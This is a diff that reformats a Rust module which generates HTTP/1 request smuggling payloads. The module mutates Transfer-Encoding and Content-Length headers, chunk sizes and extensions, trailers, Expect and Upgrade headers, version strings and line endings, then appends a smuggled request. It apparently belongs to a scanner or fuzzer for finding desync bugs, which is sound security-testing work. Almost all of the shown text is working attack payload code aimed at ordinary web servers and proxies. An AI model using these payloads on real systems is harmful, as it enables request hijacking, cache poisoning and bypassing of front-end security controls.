@@ -1,4 +1,5 @@
-//! Payloads of HTTP/1. Each is one connection's bytes, and ends with an innocent request whose answer ends the wait.
+//! Payloads of HTTP/1. Each is one connection's bytes, and ends with an innocent request whose answer ends the
+//! wait.
 
 use super::{MARK, Payload, Payloads};
 
@@ -48,21 +49,91 @@ fn latin1(text: &str) -> Vec<u8> {
 /// Field lines that some server takes for `Transfer-Encoding: chunked`.
 fn codings() -> Vec<String> {
     let values = [
-        "chunked", "Chunked", "CHUNKED", " chunked", "\tchunked", "chunked ", "chunked\t", "\u{b}chunked", "chunked\u{b}",
-        "\u{c}chunked", "chunked\u{c}", "\u{a0}chunked", "chunked\u{85}", "chunked\0", "\0chunked", "xchunked", "chunkedx", "chunk", "chun ked",
-        "chunked;", "chunked;q=1", "chunked, identity", "identity, chunked", "identity", "chunked,", ",chunked",
-        "chunked, chunked", "gzip, chunked", "chunked, gzip", "cow", "cow, chunked", "\"chunked\"", "'chunked'",
-        "{chunked}", "chunked\r\n ", "\r\n chunked", "\r\n\tchunked", "x\r\n chunked", "chunked\r\n x", "\rchunked", "chunked\r", "\nchunked",
-        "chunked\n", "=chunked", ": chunked", "chunked:", "chunked;chunked", "chunked chunked", "x chunked", "chunked x",
-        "", "\u{ff}chunked", "chunked\u{7f}", "chu\u{6e}ked#", "1chunked", "-chunked",
+        "chunked",
+        "Chunked",
+        "CHUNKED",
+        " chunked",
+        "\tchunked",
+        "chunked ",
+        "chunked\t",
+        "\u{b}chunked",
+        "chunked\u{b}",
+        "\u{c}chunked",
+        "chunked\u{c}",
+        "\u{a0}chunked",
+        "chunked\u{85}",
+        "chunked\0",
+        "\0chunked",
+        "xchunked",
+        "chunkedx",
+        "chunk",
+        "chun ked",
+        "chunked;",
+        "chunked;q=1",
+        "chunked, identity",
+        "identity, chunked",
+        "identity",
+        "chunked,",
+        ",chunked",
+        "chunked, chunked",
+        "gzip, chunked",
+        "chunked, gzip",
+        "cow",
+        "cow, chunked",
+        "\"chunked\"",
+        "'chunked'",
+        "{chunked}",
+        "chunked\r\n ",
+        "\r\n chunked",
+        "\r\n\tchunked",
+        "x\r\n chunked",
+        "chunked\r\n x",
+        "\rchunked",
+        "chunked\r",
+        "\nchunked",
+        "chunked\n",
+        "=chunked",
+        ": chunked",
+        "chunked:",
+        "chunked;chunked",
+        "chunked chunked",
+        "x chunked",
+        "chunked x",
+        "",
+        "\u{ff}chunked",
+        "chunked\u{7f}",
+        "chu\u{6e}ked#",
+        "1chunked",
+        "-chunked",
     ];
     let names = [
-        "Transfer-Encoding :", "Transfer-Encoding\t:", "Transfer-Encoding\u{b}:", "Transfer-Encoding\0:", " Transfer-Encoding:",
-        "\tTransfer-Encoding:", "Transfer_Encoding:", "Transfer Encoding:", "TransferEncoding:", "Transfer.Encoding:",
-        "transfer-encoding:", "tRANSFER-eNCODING:", "X: y\nTransfer-Encoding:", "X: y\rTransfer-Encoding:",
-        "X: y\r\n Transfer-Encoding:", "X:\r\nTransfer-Encoding:", "Transfer-Encoding\r\n:", "\u{ff}Transfer-Encoding:",
-        "Transfer-Encoding\u{a0}:", "\"Transfer-Encoding\":", "Transfer-Encoding;:", "Transfer-Encoding", "Transfer-\nEncoding:",
-        "Content-Encoding:", "TE:", "X-Transfer-Encoding:", "Transfer-Encodin\u{67}\u{8}:",
+        "Transfer-Encoding :",
+        "Transfer-Encoding\t:",
+        "Transfer-Encoding\u{b}:",
+        "Transfer-Encoding\0:",
+        " Transfer-Encoding:",
+        "\tTransfer-Encoding:",
+        "Transfer_Encoding:",
+        "Transfer Encoding:",
+        "TransferEncoding:",
+        "Transfer.Encoding:",
+        "transfer-encoding:",
+        "tRANSFER-eNCODING:",
+        "X: y\nTransfer-Encoding:",
+        "X: y\rTransfer-Encoding:",
+        "X: y\r\n Transfer-Encoding:",
+        "X:\r\nTransfer-Encoding:",
+        "Transfer-Encoding\r\n:",
+        "\u{ff}Transfer-Encoding:",
+        "Transfer-Encoding\u{a0}:",
+        "\"Transfer-Encoding\":",
+        "Transfer-Encoding;:",
+        "Transfer-Encoding",
+        "Transfer-\nEncoding:",
+        "Content-Encoding:",
+        "TE:",
+        "X-Transfer-Encoding:",
+        "Transfer-Encodin\u{67}\u{8}:",
     ];
     let values = values.iter().map(|value| format!("Transfer-Encoding: {value}"));
     values.chain(names.iter().map(|name| format!("{name} chunked"))).collect()
@@ -72,9 +143,44 @@ fn codings() -> Vec<String> {
 fn lengths(number: usize) -> Vec<String> {
     let text = number.to_string();
     [
-        "N", "+N", "-N", "0N", "00000000000000000000N", " N", "\tN", "N ", "N\t", "\u{b}N", "N\u{c}", "N\0", "\0N", "Na", "N,", ",N", "N, N", "N,0",
-        "0,N", "N;", "N.0", "Ne0", "0xN", "0oN", "N 0", "N\r\n ", "\r\n N", "N\r\n 0", "\"N\"", "1_N", "N\n", "N\r", "", "\u{a0}N", "\u{b2}",
-        "18446744073709551616", "-1", "99999999999999999999999999",
+        "N",
+        "+N",
+        "-N",
+        "0N",
+        "00000000000000000000N",
+        " N",
+        "\tN",
+        "N ",
+        "N\t",
+        "\u{b}N",
+        "N\u{c}",
+        "N\0",
+        "\0N",
+        "Na",
+        "N,",
+        ",N",
+        "N, N",
+        "N,0",
+        "0,N",
+        "N;",
+        "N.0",
+        "Ne0",
+        "0xN",
+        "0oN",
+        "N 0",
+        "N\r\n ",
+        "\r\n N",
+        "N\r\n 0",
+        "\"N\"",
+        "1_N",
+        "N\n",
+        "N\r",
+        "",
+        "\u{a0}N",
+        "\u{b2}",
+        "18446744073709551616",
+        "-1",
+        "99999999999999999999999999",
     ]
     .iter()
     .map(|form| form.replace('N', &text))
@@ -101,7 +207,10 @@ fn length_and_coding(payloads: &mut Payloads) {
 fn two_codings(payloads: &mut Payloads) {
     for coding in codings() {
         let body = format!("0\r\n\r\n{SMUGGLED}");
-        for fields in [format!("Transfer-Encoding: chunked\r\n{coding}"), format!("{coding}\r\nTransfer-Encoding: identity")] {
+        for fields in [
+            format!("Transfer-Encoding: chunked\r\n{coding}"),
+            format!("{coding}\r\nTransfer-Encoding: identity"),
+        ] {
             payloads.add("TE.TE", post(&fields, &body));
         }
     }
@@ -158,10 +267,60 @@ fn chunked(body: &str) -> Vec<u8> {
 fn chunk_sizes(payloads: &mut Payloads) {
     let length = format!("{:x}", SMUGGLED.len());
     for form in [
-        "N", "0N", "0000000000N", "00000000000000000000N", "+N", "-N", "0xN", "0XN", "N ", " N", "\tN", "N\t", "N\u{b}", "\u{b}N", "N\0", "Nh", "N_", "N.",
-        "N,", "N x", "N\u{a0}", "\u{a0}N", "\"N\"", "1 N", "0 N", "10000000000000000N", "100000000N", "ffffffffffffffff", "-1", "N;", "N ;", "N;x", "N\n",
-        "N\r", "N\r\r", "\r\nN", "\nN", "", ";", " ", "0;N", "g", "0N;0", "8000000000000000", "7fffffffffffffff", "fffffffffffffff0", "1_N", "N;\0", "N=1", "N#",
-        "%30N", "N/0", "(N)", "N\u{7f}",
+        "N",
+        "0N",
+        "0000000000N",
+        "00000000000000000000N",
+        "+N",
+        "-N",
+        "0xN",
+        "0XN",
+        "N ",
+        " N",
+        "\tN",
+        "N\t",
+        "N\u{b}",
+        "\u{b}N",
+        "N\0",
+        "Nh",
+        "N_",
+        "N.",
+        "N,",
+        "N x",
+        "N\u{a0}",
+        "\u{a0}N",
+        "\"N\"",
+        "1 N",
+        "0 N",
+        "10000000000000000N",
+        "100000000N",
+        "ffffffffffffffff",
+        "-1",
+        "N;",
+        "N ;",
+        "N;x",
+        "N\n",
+        "N\r",
+        "N\r\r",
+        "\r\nN",
+        "\nN",
+        "",
+        ";",
+        " ",
+        "0;N",
+        "g",
+        "0N;0",
+        "8000000000000000",
+        "7fffffffffffffff",
+        "fffffffffffffff0",
+        "1_N",
+        "N;\0",
+        "N=1",
+        "N#",
+        "%30N",
+        "N/0",
+        "(N)",
+        "N\u{7f}",
     ] {
         let size = form.replace('N', &length);
         payloads.add("chunk size", chunked(&format!("{size}\r\n{SMUGGLED}\r\n0\r\n\r\n")));
@@ -174,7 +333,8 @@ fn chunk_sizes(payloads: &mut Payloads) {
 
 /// What ends lines and data in chunks.
 fn chunk_ends(payloads: &mut Payloads) {
-    let ends = ["\r\n", "\n", "\r", "\r\r\n", "\n\r", "", "x\r\n", "\r\nx", "\0\r\n", " \r\n", "\r\n\r\n", "\n\n"];
+    let ends =
+        ["\r\n", "\n", "\r", "\r\r\n", "\n\r", "", "x\r\n", "\r\nx", "\0\r\n", " \r\n", "\r\n\r\n", "\n\n"];
     for end in ends {
         payloads.add("chunk end", chunked(&format!("3{end}abc\r\n0\r\n\r\n{SMUGGLED}")));
         payloads.add("chunk end", chunked(&format!("3\r\nabc{end}0\r\n\r\n{SMUGGLED}")));
@@ -187,8 +347,41 @@ fn chunk_ends(payloads: &mut Payloads) {
 /// TERM.EXT and EXT.TERM: a line end inside of an extension that one reader does not see.
 fn extensions(payloads: &mut Payloads) {
     for extension in [
-        ";", ";;", ";a", ";a=b", "; a=b", ";a = b", ";a=\"b\"", ";a=\"b", ";a=\"\\\"\"", ";a=\"\r\n\"", ";a=\"\n\"", ";\n", ";\nx", ";x\n", ";\r", ";x\ry",
-        ";\r\r", ";\0", ";\u{1}", ";\u{7f}", ";\u{ff}", ";a=b;c=d", ";=", ";=b", ";a=", ";/", ";:", "; ;", ";\t", ";\u{b}", ";0\r\n\r\n", " ;a", "\t;a", ";ffff", ";\"",
+        ";",
+        ";;",
+        ";a",
+        ";a=b",
+        "; a=b",
+        ";a = b",
+        ";a=\"b\"",
+        ";a=\"b",
+        ";a=\"\\\"\"",
+        ";a=\"\r\n\"",
+        ";a=\"\n\"",
+        ";\n",
+        ";\nx",
+        ";x\n",
+        ";\r",
+        ";x\ry",
+        ";\r\r",
+        ";\0",
+        ";\u{1}",
+        ";\u{7f}",
+        ";\u{ff}",
+        ";a=b;c=d",
+        ";=",
+        ";=b",
+        ";a=",
+        ";/",
+        ";:",
+        "; ;",
+        ";\t",
+        ";\u{b}",
+        ";0\r\n\r\n",
+        " ;a",
+        "\t;a",
+        ";ffff",
+        ";\"",
     ] {
         payloads.add("extension", chunked(&format!("3{extension}\r\nabc\r\n0\r\n\r\n{SMUGGLED}")));
         payloads.add("extension", chunked(&format!("0{extension}\r\n\r\n{SMUGGLED}")));
@@ -199,23 +392,65 @@ fn extensions(payloads: &mut Payloads) {
 /// Trailers that one reader takes for fields of the head, or for a request.
 fn trailers(payloads: &mut Payloads) {
     for trailer in [
-        "X: y", "Content-Length: 5", "Transfer-Encoding: chunked", "Transfer-Encoding: identity", "Host: b.test", "Connection: close",
-        "Connection: keep-alive", "X : y", "X\t: y", " X: y", "X", ": y", "X: y\n", "X: y\nContent-Length: 5", "X: y\rZ: 1", "X: \0", "X: y\r\n z",
-        "GET /p00000/smuggled HTTP/1.1", "GET /p00000/smuggled HTTP/1.1\r\nHost: a.test", "X: y\r\nContent-Length: 5", "X_Y: z", "Expect: 100-continue",
-        "Upgrade: websocket", "content-length:5", "Content_Length: 5", "X: y\n\nGET /p00000/smuggled HTTP/1.1\nHost: a.test",
+        "X: y",
+        "Content-Length: 5",
+        "Transfer-Encoding: chunked",
+        "Transfer-Encoding: identity",
+        "Host: b.test",
+        "Connection: close",
+        "Connection: keep-alive",
+        "X : y",
+        "X\t: y",
+        " X: y",
+        "X",
+        ": y",
+        "X: y\n",
+        "X: y\nContent-Length: 5",
+        "X: y\rZ: 1",
+        "X: \0",
+        "X: y\r\n z",
+        "GET /p00000/smuggled HTTP/1.1",
+        "GET /p00000/smuggled HTTP/1.1\r\nHost: a.test",
+        "X: y\r\nContent-Length: 5",
+        "X_Y: z",
+        "Expect: 100-continue",
+        "Upgrade: websocket",
+        "content-length:5",
+        "Content_Length: 5",
+        "X: y\n\nGET /p00000/smuggled HTTP/1.1\nHost: a.test",
     ] {
         payloads.add("trailer", chunked(&format!("3\r\nabc\r\n0\r\n{trailer}\r\n\r\n{SMUGGLED}")));
-        payloads.add("trailer", post("Transfer-Encoding: chunked\r\nTrailer: Content-Length", &format!("0\r\n{trailer}\r\n\r\n")));
+        payloads.add(
+            "trailer",
+            post("Transfer-Encoding: chunked\r\nTrailer: Content-Length", &format!("0\r\n{trailer}\r\n\r\n")),
+        );
     }
 }
 
 /// An expectation that one reader answers and another does not.
 fn expectations(payloads: &mut Payloads) {
     for expectation in [
-        "100-continue", "100-Continue", "100-continue ", "100-continue, 100-continue", "100-continue,", ", 100-continue", "100-continue;x", "x 100-continue",
-        "y 100-continue", "100", "", "\t100-continue", "\u{b}100-continue", "100-continue\0", "\r\n 100-continue", "100-continued", "200-ok",
+        "100-continue",
+        "100-Continue",
+        "100-continue ",
+        "100-continue, 100-continue",
+        "100-continue,",
+        ", 100-continue",
+        "100-continue;x",
+        "x 100-continue",
+        "y 100-continue",
+        "100",
+        "",
+        "\t100-continue",
+        "\u{b}100-continue",
+        "100-continue\0",
+        "\r\n 100-continue",
+        "100-continued",
+        "200-ok",
     ] {
-        for (length, method) in [(SMUGGLED.len(), "POST"), (0, "POST"), (SMUGGLED.len(), "GET"), (3, "OPTIONS")] {
+        for (length, method) in
+            [(SMUGGLED.len(), "POST"), (0, "POST"), (SMUGGLED.len(), "GET"), (3, "OPTIONS")]
+        {
             let fields = format!("Expect: {expectation}\r\nContent-Length: {length}");
             payloads.add("Expect", request(method, "HTTP/1.1", &fields, SMUGGLED));
         }
@@ -227,13 +462,52 @@ fn expectations(payloads: &mut Payloads) {
 /// An upgrade that one reader takes for done.
 fn upgrades(payloads: &mut Payloads) {
     let key = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==";
-    for protocol in ["websocket", "WebSocket", "h2c", "TLS/1.0", "HTTP/2.0", "websocket, h2c", "h2c, websocket", "x", "", "websocket\0", "\r\n websocket", "connect-udp"] {
+    for protocol in [
+        "websocket",
+        "WebSocket",
+        "h2c",
+        "TLS/1.0",
+        "HTTP/2.0",
+        "websocket, h2c",
+        "h2c, websocket",
+        "x",
+        "",
+        "websocket\0",
+        "\r\n websocket",
+        "connect-udp",
+    ] {
         for version in ["13", "8", "13, 8", ""] {
-            let upgrade = format!("Connection: Upgrade\r\nUpgrade: {protocol}\r\n{key}\r\nSec-WebSocket-Version: {version}");
+            let upgrade = format!(
+                "Connection: Upgrade\r\nUpgrade: {protocol}\r\n{key}\r\nSec-WebSocket-Version: {version}"
+            );
             payloads.add("Upgrade", request("GET", "HTTP/1.1", &upgrade, ""));
-            payloads.add("Upgrade", request("GET", "HTTP/1.1", &format!("{upgrade}\r\nContent-Length: {}", SMUGGLED.len()), SMUGGLED));
-            payloads.add("Upgrade", request("GET", "HTTP/1.1", &format!("{upgrade}\r\nTransfer-Encoding: chunked"), &format!("0\r\n\r\n{SMUGGLED}")));
-            payloads.add("Upgrade", request("POST", "HTTP/1.1", &format!("{upgrade}\r\nContent-Length: 3"), &format!("abc{SMUGGLED}")));
+            payloads.add(
+                "Upgrade",
+                request(
+                    "GET",
+                    "HTTP/1.1",
+                    &format!("{upgrade}\r\nContent-Length: {}", SMUGGLED.len()),
+                    SMUGGLED,
+                ),
+            );
+            payloads.add(
+                "Upgrade",
+                request(
+                    "GET",
+                    "HTTP/1.1",
+                    &format!("{upgrade}\r\nTransfer-Encoding: chunked"),
+                    &format!("0\r\n\r\n{SMUGGLED}"),
+                ),
+            );
+            payloads.add(
+                "Upgrade",
+                request(
+                    "POST",
+                    "HTTP/1.1",
+                    &format!("{upgrade}\r\nContent-Length: 3"),
+                    &format!("abc{SMUGGLED}"),
+                ),
+            );
         }
     }
 }
@@ -241,7 +515,20 @@ fn upgrades(payloads: &mut Payloads) {
 /// Versions for which one reader knows no chunks, or no second request.
 fn http10(payloads: &mut Payloads) {
     let body = format!("0\r\n\r\n{SMUGGLED}");
-    for version in ["HTTP/1.0", "HTTP/0.9", "HTTP/1.2", "HTTP/1", "http/1.1", "HTTP/01.1", "HTTP/1.10", "HTTP/2.0", "HTTP/1.1 ", "HTTP/1.0\t", "HTTP/1.0\0", ""] {
+    for version in [
+        "HTTP/1.0",
+        "HTTP/0.9",
+        "HTTP/1.2",
+        "HTTP/1",
+        "http/1.1",
+        "HTTP/01.1",
+        "HTTP/1.10",
+        "HTTP/2.0",
+        "HTTP/1.1 ",
+        "HTTP/1.0\t",
+        "HTTP/1.0\0",
+        "",
+    ] {
         for fields in [
             "Transfer-Encoding: chunked".to_owned(),
             "Transfer-Encoding: chunked\r\nConnection: keep-alive".to_owned(),
@@ -257,7 +544,10 @@ fn http10(payloads: &mut Payloads) {
 
 /// Line ends that one reader does not see.
 fn lines(payloads: &mut Payloads) {
-    let ends = ["\n", "\r", "\r\r\n", "\n\r", "\r\n ", "\r\n\t", "\u{b}", "\u{c}", "\u{85}", "\0", "\r\0\n", " \r\n", "\\r\\n", "%0d%0a"];
+    let ends = [
+        "\n", "\r", "\r\r\n", "\n\r", "\r\n ", "\r\n\t", "\u{b}", "\u{c}", "\u{85}", "\0", "\r\0\n", " \r\n",
+        "\\r\\n", "%0d%0a",
+    ];
     for end in ends {
         for field in ["Content-Length: 5", "Transfer-Encoding: chunked", "Host: b.test"] {
             payloads.add("line end", post(&format!("X: y{end}{field}"), &format!("0\r\n\r\n{SMUGGLED}")));
@@ -265,15 +555,24 @@ fn lines(payloads: &mut Payloads) {
         }
         let last = innocent();
         payloads.add("line end", latin1(&format!("GET {MARK}a HTTP/1.1{end}Host: a.test\r\n\r\n{last}")));
-        payloads.add("line end", latin1(&format!("GET {MARK}a HTTP/1.1\r\nHost: a.test{end}{end}{SMUGGLED}\r\n\r\n{last}")));
-        payloads.add("line end", latin1(&format!("GET {MARK}a HTTP/1.1\r\nHost: a.test\r\nX: y\r\n{end}{SMUGGLED}\r\n\r\n{last}")));
+        payloads.add(
+            "line end",
+            latin1(&format!("GET {MARK}a HTTP/1.1\r\nHost: a.test{end}{end}{SMUGGLED}\r\n\r\n{last}")),
+        );
+        payloads.add(
+            "line end",
+            latin1(&format!("GET {MARK}a HTTP/1.1\r\nHost: a.test\r\nX: y\r\n{end}{SMUGGLED}\r\n\r\n{last}")),
+        );
     }
 }
 
 /// Targets and methods that make a second request line.
 fn targets(payloads: &mut Payloads) {
     let last = innocent();
-    for part in ["\r\n", "\n", "\r", " ", "\t", "\u{b}", "\u{c}", "\0", "\u{85}", "\u{a0}", "%0d%0a", "%20", "%0a", "%00", "\u{ff}"] {
+    for part in [
+        "\r\n", "\n", "\r", " ", "\t", "\u{b}", "\u{c}", "\0", "\u{85}", "\u{a0}", "%0d%0a", "%20", "%0a",
+        "%00", "\u{ff}",
+    ] {
         for line in [
             format!("GET {MARK}a{part}HTTP/1.1"),
             format!("GET {MARK}a{part}b HTTP/1.1"),
@@ -291,10 +590,31 @@ fn targets(payloads: &mut Payloads) {
 /// Fields that `Connection` names.
 fn hops(payloads: &mut Payloads) {
     let body = format!("abc{SMUGGLED}");
-    for named in ["Content-Length", "Transfer-Encoding", "Host", "content-length, close", "keep-alive, Content-Length", "Expect", "Upgrade", "Connection"] {
-        payloads.add("Connection", post(&format!("Connection: {named}\r\nContent-Length: {}", body.len()), &body));
-        payloads.add("Connection", post(&format!("Content-Length: {}\r\nConnection: {named}", body.len()), &body));
-        payloads.add("Connection", post(&format!("Connection: {named}\r\nTransfer-Encoding: chunked"), "3\r\nabc\r\n0\r\n\r\n"));
-        payloads.add("Connection", request("GET", "HTTP/1.1", &format!("Connection: {named}\r\nContent-Length: 3"), "abc"));
+    for named in [
+        "Content-Length",
+        "Transfer-Encoding",
+        "Host",
+        "content-length, close",
+        "keep-alive, Content-Length",
+        "Expect",
+        "Upgrade",
+        "Connection",
+    ] {
+        payloads.add(
+            "Connection",
+            post(&format!("Connection: {named}\r\nContent-Length: {}", body.len()), &body),
+        );
+        payloads.add(
+            "Connection",
+            post(&format!("Content-Length: {}\r\nConnection: {named}", body.len()), &body),
+        );
+        payloads.add(
+            "Connection",
+            post(&format!("Connection: {named}\r\nTransfer-Encoding: chunked"), "3\r\nabc\r\n0\r\n\r\n"),
+        );
+        payloads.add(
+            "Connection",
+            request("GET", "HTTP/1.1", &format!("Connection: {named}\r\nContent-Length: 3"), "abc"),
+        );
     }
 }
